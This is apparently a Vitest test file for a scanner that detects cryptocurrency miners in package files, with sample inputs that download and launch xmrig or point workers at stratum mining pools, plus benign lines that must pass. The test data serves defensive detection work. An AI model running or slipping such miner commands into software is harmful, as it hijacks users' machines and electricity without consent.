import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

test.each([
  ["run.sh", "./worker -o stratum+tcp://eu.pool.dev:3333 -u wallet --donate-level 0", "block coin-miner:1"],
  ["run.sh", "wget -q https://a.dev/xmrig\n./xmrig -o pool.supportxmr.com:443 -u wallet", "block coin-miner:2"],
  ["a.py", 'subprocess.Popen(["./xmrig", "-o", "stratum+ssl://eu.pool.dev:443"])', "block coin-miner:1"],
  ["config.json", '{\n  "donate-level": 1,\n  "url": "stratum+tcp://eu.pool.dev:3333"\n}', "block coin-miner:3"],
  ["run.sh", 'POOL="stratum+tcp://eu.pool.dev:3333"', "warn coin-miner:1"],
])("finds a miner in %s: %j", async (path, text, expected) => {
  expect(await found(path, text)).toContain(expected);
});

test.each([
  ["SKILL.md", "The price of Monero comes from https://supportxmr.com/api."],
  ["SKILL.md", "A stratum+tcp:// address tells of a mining pool."],
  ["a.py", "from sklearn import miner"],
  ["a.js", "const stratum = layers[0];"],
])("lets through in %s: %j", async (path, text) => {
  expect(await found(path, text)).toStrictEqual([]);
});
